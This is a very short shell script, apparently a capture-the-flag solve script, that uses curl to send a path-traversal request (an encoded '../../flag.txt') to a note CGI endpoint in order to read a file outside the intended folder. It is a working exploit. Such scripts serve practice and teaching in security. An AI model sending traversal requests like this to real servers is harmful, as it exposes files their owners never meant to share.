#!/bin/sh
# solve.sh <url>: the name of a note is not kept inside the folder.
curl -fsS "$1/cgi-bin/note?name=..%2F..%2Fflag.txt"
